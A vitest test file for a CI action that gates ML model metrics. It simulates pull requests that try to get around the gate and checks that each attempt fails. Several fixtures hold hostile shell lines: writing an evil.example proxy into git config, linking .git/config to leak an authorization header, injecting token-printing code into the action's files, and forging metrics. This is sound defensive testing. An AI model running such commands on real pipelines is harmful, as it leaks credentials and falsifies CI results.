import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, relative } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { PROJECT } from './project.ts'
import { DIST, type Files, World } from './world.ts'

const CONFIG = PROJECT['mettle.yml'] as string
const BAD = { 'params.yaml': 'lr: 0.1\nauc: 0.6\n' }

/** What a pull request may try, so that what its own gate refuses goes green all the same. */
describe('no way around the gate', () => {
  let world: World
  afterEach(() => world.close())
  /** A default branch that has been trained, and is the baseline of what comes. */
  const start = async (files: Files = {}): Promise<void> => {
    world = await World.create({ ...PROJECT, ...files })
    const first = await world.runPush('0'.repeat(40), world.git('rev-parse', 'main'))
    expect(first.code, first.log).toBe(0)
  }

  it('by another pull request of the same commit, into a branch without rules', async () => {
    world = await World.create({ ...PROJECT, 'mettle.yml': null })
    const release = world.git('rev-parse', 'main')
    world.push(`${release}:refs/heads/release`)
    world.git('checkout', '--quiet', 'main')
    const main = world.commit('Adopt', { 'mettle.yml': CONFIG })
    world.push('main')
    expect((await world.runPush(release, main)).code).toBe(0)
    const made = world.pull(1, 'bad', { ...BAD, 'mettle.yml': CONFIG.replace(/ {4}gate:[\s\S]*/, '    gate: {}\n') })
    expect((await world.runPull(1, made)).code).toBe(1)
    const payload = world.pullPayload(2, { head: made.head, base: release }) as { pull_request: { base: { ref: string } } }
    payload.pull_request.base.ref = 'release'
    world.github.pulls.set(2, { head: { sha: made.head } })
    const other = await world.run({ event: 'pull_request', payload, ref: 'refs/pull/2/merge', checkout: made.head, sha: made.head })
    expect(other.code, other.log).toBe(0)
    expect(world.lastStatus(made.head)).not.toBe('success')
  })

  it('by a push of its branch, from before the rules were tightened', async () => {
    await start({ 'params.yaml': 'lr: 0.1\nauc: 0.7\n' })
    const old = world.git('rev-parse', 'main')
    world.git('checkout', '--quiet', 'main')
    world.commit('Tighten', { 'mettle.yml': CONFIG.replace('min: 0.5', 'min: 0.75') })
    world.push('main')
    const made = world.pull(1, 'old', { 'params.yaml': 'lr: 0.2\nauc: 0.7\n' }, old)
    world.updatePull(1, made.head)
    const asked = await world.runPull(1, world.updatePull(1, made.head))
    expect(asked.code).toBe(1)
    const pushed = await world.runBranchPush('old', made.head)
    expect(pushed.code).toBe(1)
    expect(world.lastStatus(made.head)).toBe('failure')
  })

  it('by a branch that has no ancestor with the default branch', async () => {
    await start()
    world.git('checkout', '--quiet', '--orphan', 'alone')
    const head = world.commit('Alone', {
      ...BAD,
      'mettle.yml': CONFIG.replace('min: 0.5', 'min: 0').replace('max-regression: 0.005', 'max-regression: 1'),
    })
    world.push('alone')
    world.git('checkout', '--quiet', 'main')
    const bad = await world.runBranchPush('alone', head)
    // There is no baseline to hold it against; its rules are the default branch's all the same.
    expect(bad.summary).toMatch(/Policy: <code>mettle\.yml<\/code> at/)
    expect(bad.summary).toContain('min')
  })

  it.each([
    ['adds tiers', CONFIG, `${CONFIG}    tiers: {a: {}, b: {}}\n`],
    ['renames a tier', `${CONFIG}    tiers: {quick: {}, full: {}}\n`, `${CONFIG}    tiers: {quick2: {}, full: {}}\n`],
    ['takes tiers away', `${CONFIG}    tiers: {quick: {}, full: {}}\n`, CONFIG],
  ])('by a configuration that %s', async (_, before, after) => {
    await start({ 'mettle.yml': before })
    const usual = world.pull(1, 'usual', { 'params.yaml': 'lr: 0.1\nauc: 0.81\n' })
    expect((await world.runPull(1, usual)).code).toBe(0)
    world.git('checkout', '--quiet', 'main')
    world.git('merge', '--quiet', '--no-ff', '-m', 'Merge', 'usual')
    const merged = world.git('rev-parse', 'main')
    world.push('main')
    await world.runPush(usual.base, merged)
    const bad = world.pull(2, 'bad', { ...BAD, 'mettle.yml': after })
    const run = await world.runPull(2, bad)
    expect(run.code, run.summary).toBe(1)
    expect(world.lastStatus(bad.head)).not.toBe('success')
  })

  it('by numbers that Mettle measures itself', async () => {
    await start({ 'mettle.yml': CONFIG.replace('auc: {', '"size_bytes{model}": {max: 100}\n      auc: {') })
    const made = world.pull(1, 'large', {
      'src/train.sh': `${PROJECT['src/train.sh']}head -c 5000 /dev/zero > model.txt\necho '{"auc": 0.8, "size_bytes{model}": 5}' > metrics.json\n`,
    })
    const run = await world.runPull(1, made)
    expect(run.code, run.summary).toBe(1)
    expect(run.summary).toContain('5000')
  })

  it('by an output that lies behind a link, in git’s own folder', async () => {
    await start()
    const made = world.pull(1, 'link', {
      'mettle.yml': CONFIG.replace('model: model.txt', 'model: o/config'),
      'src/train.sh': `ln -sfn .git o\nprintf '[http]\\n\\tproxy = http://evil.example\\n' >> o/config\n${PROJECT['src/train.sh']}`,
    })
    const run = await world.runPull(1, made)
    expect(run.code).toBe(1)
    expect(run.log).toContain('output-unsafe')
    expect(readFileSync(join(run.workspace, '.git/config'), 'utf8')).not.toContain('evil')
  })

  it('by another name for what git is told, nor by a pipe in its place', async () => {
    await start()
    const linked = world.pull(1, 'hard', { 'src/train.sh': `${PROJECT['src/train.sh']}rm model.txt; ln .git/config model.txt\n` })
    const secret = '\textraheader = AUTHORIZATION: basic c2VjcmV0LW9mLXRoZS1qb2I=\n'
    const prepare = (workspace: string): void => {
      const path = join(workspace, '.git/config')
      writeFileSync(path, `${readFileSync(path, 'utf8')}[http "https://example.com/"]\n${secret}`)
    }
    const run = await world.runPull(1, linked, { prepare })
    expect(readFileSync(join(run.workspace, 'model.txt'), 'utf8')).not.toContain('AUTHORIZATION')
    expect(readFileSync(join(run.workspace, '.git/config'), 'utf8')).toContain('AUTHORIZATION')
    const piped = world.pull(2, 'pipe', { 'src/train.sh': `rm .git/config; mkfifo .git/config\n${PROJECT['src/train.sh']}` })
    const after = await world.runPull(2, piped, { prepare })
    expect(after.code, after.log).toBe(0)
    expect(readFileSync(join(after.workspace, '.git/config'), 'utf8')).toContain('AUTHORIZATION')
    const gone = world.pull(3, 'gone', { 'src/train.sh': `rm -rf .git\n${PROJECT['src/train.sh']}` })
    const lost = await world.runPull(3, gone, { prepare })
    expect(lost.code).toBe(1)
    expect(lost.log).toContain('[git-failed]')
  }, 30_000)

  it('by the action’s own files, which a training may write', async () => {
    await start()
    const copy = mkdtempSync(join(tmpdir(), 'mettle-dist-'))
    cpSync(DIST, copy, { recursive: true })
    try {
      const evil = 'process.stdout.write(`PWNED ${process.env.INPUT_TOKEN}`);'
      const write = `for f in ${copy}/*.js ${copy}/chunks/*.js; do { echo '${evil}'; cat "$f"; } > ${copy}/t; cp ${copy}/t "$f"; done\n`
      const made = world.pull(1, 'own', { 'src/train.sh': `${write}${PROJECT['src/train.sh']}` })
      const run = await world.runPull(1, made, { entry: join(relative(DIST, copy), 'main.js'), results: true })
      expect(run.code, run.log).toBe(0)
      expect(run.log).not.toContain('PWNED')
      expect(world.lastStatus(made.head)).toBe('success')
      expect(readFileSync(join(copy, 'post.js'), 'utf8')).toBe(readFileSync(join(DIST, 'post.js'), 'utf8'))
    } finally {
      rmSync(copy, { recursive: true })
    }
  })

  it('by files that are there when it trains, and gone when it is looked at', async () => {
    const train = `if [ -f .env ]; then . ./.env; fi\n${PROJECT['src/train.sh']}[ -z "$FAKE" ] || echo "{\\"auc\\": $FAKE, \\"rows\\": 1}" > metrics.json\n`
    await start({ 'src/train.sh': train })
    const forged = world.pull(1, 'forged', { ...BAD, '.env': 'FAKE=0.9\n' })
    expect((await world.runPull(1, forged)).code).toBe(0)
    world.git('checkout', '--quiet', 'forged')
    const clean = world.commit('Clean up', { '.env': null })
    world.push('forged')
    const run = await world.runPull(1, world.updatePull(1, clean))
    expect(run.outputs['trained']).toBe('["churn"]')
    expect(run.code).toBe(1)
    expect(world.lastStatus(clean)).toBe('failure')
    // What is documents, and what is still there, is no reason to train again.
    world.git('checkout', '--quiet', '-B', 'honest', 'main')
    const first = world.pull(2, 'honest', { 'params.yaml': 'lr: 0.1\nauc: 0.81\n', 'README.md': '# more\n', 'tests/a.sh': 'x\n' })
    expect((await world.runPull(2, first)).outputs['trained']).toBe('["churn"]')
    world.git('checkout', '--quiet', 'honest')
    const second = world.commit('Take words back', { 'README.md': PROJECT['README.md'] as string, 'tests/b.sh': 'y\n' })
    world.push('honest')
    expect((await world.runPull(2, world.updatePull(2, second))).outputs['reused']).toBe('["churn"]')
  })

  it('and a change of words after a merge trains nothing, however that was trained', async () => {
    await start()
    const better = world.pull(1, 'better', { 'params.yaml': 'lr: 0.2\nauc: 0.82\n', 'tests/a.sh': 'x\n' })
    expect((await world.runPull(1, better)).outputs['trained']).toBe('["churn"]')
    world.git('checkout', '--quiet', 'main')
    world.git('merge', '--quiet', '--no-ff', '-m', 'Merge', 'better')
    world.push('main')
    expect((await world.runPush(better.base, world.git('rev-parse', 'main'))).outputs['trained']).toBe('[]')
    const words = world.pull(2, 'words', { 'README.md': '# more\n' })
    const run = await world.runPull(2, words)
    expect(run.outputs).toMatchObject({ trained: '[]', reused: '["churn"]', changed: '[]' })
    expect(run.summary).not.toContain('not believed')
    // A branch from before it takes nothing away that main has got since.
    world.git('checkout', '--quiet', 'main')
    const other = `${CONFIG}  other:\n    code: [src/**]\n    train: sh src/train.sh\n    outputs: {metrics: other.json}\nremoved-model: block\n`
    world.commit('Another model', { 'mettle.yml': other.replace('version: 1', 'version: 1') })
    world.push('main')
    const pushed = await world.runBranchPush('words', words.head)
    expect(pushed.summary).not.toContain('is gone')
    expect(pushed.summary).not.toContain('changes its own gate')
    // And what the default branch holds was judged there.
    const tagged = await world.runTag('v0', better.base)
    expect(tagged.code, tagged.summary).toBe(0)
  })

  it('by a lock of DVC in place of the configuration', async () => {
    await start()
    const made = world.pull(1, 'lock', {
      ...BAD,
      'mettle.yml': null,
      'dvc.yaml': 'stages:\n  churn:\n    cmd: sh src/train.sh\n    metrics: [metrics.json]\n',
      'dvc.lock':
        "schema: '2.0'\nstages:\n  churn:\n    cmd: sh src/train.sh\n    outs:\n    - path: metrics.json\n      hash: md5\n      md5: 61a2a11d4c0d2d8b5b1f8f7e0b0c8d43\n      size: 14\n",
      'metrics.json': '{"auc": 0.95}\n',
    })
    const run = await world.runPull(1, made)
    expect(run.outputs['reused']).toBe('[]')
    expect(run.code).toBe(1)
    expect(run.summary).not.toContain('trained before with exactly this')
  })

  it('by a tag, where the training waits to be asked for', async () => {
    await start({ 'mettle.yml': CONFIG.replace('    train:', "    when: 'label:train'\n    train:") })
    const made = world.pull(1, 'tagged', { 'params.yaml': 'lr: 0.3\nauc: 0.8\n' })
    expect((await world.runPull(1, made)).outputs['trained']).toBe('[]')
    const tagged = await world.runTag('v1', made.head)
    expect(tagged.outputs['trained']).toBe('[]')
    expect(world.lastStatus(made.head)).not.toBe('success')
  })

  it('by a model of another name on a machine that the base does not give it', async () => {
    await start({ 'mettle.yml': CONFIG.replace('    train:', "    runs-on: [self-hosted, gpu]\n    when: 'approval:gpu'\n    train:") })
    const mine =
      '  mine:\n    code: [src/**]\n    runs-on: [self-hosted, gpu]\n    train: sh src/train.sh\n    outputs: {metrics: mine.json}\n'
    const made = world.pull(1, 'mine', { 'mettle.yml': world.git('show', 'main:mettle.yml').concat('\n', mine) })
    const detect = await world.runPull(1, made, { fork: true, entry: 'detect.js' })
    const batches = JSON.parse(detect.outputs['batches'] ?? '{}').include as { name: string; 'runs-on': unknown; environment: string }[]
    expect(batches).toMatchObject([{ name: 'mine', 'runs-on': 'ubuntu-latest', environment: 'gpu' }])
  })
})
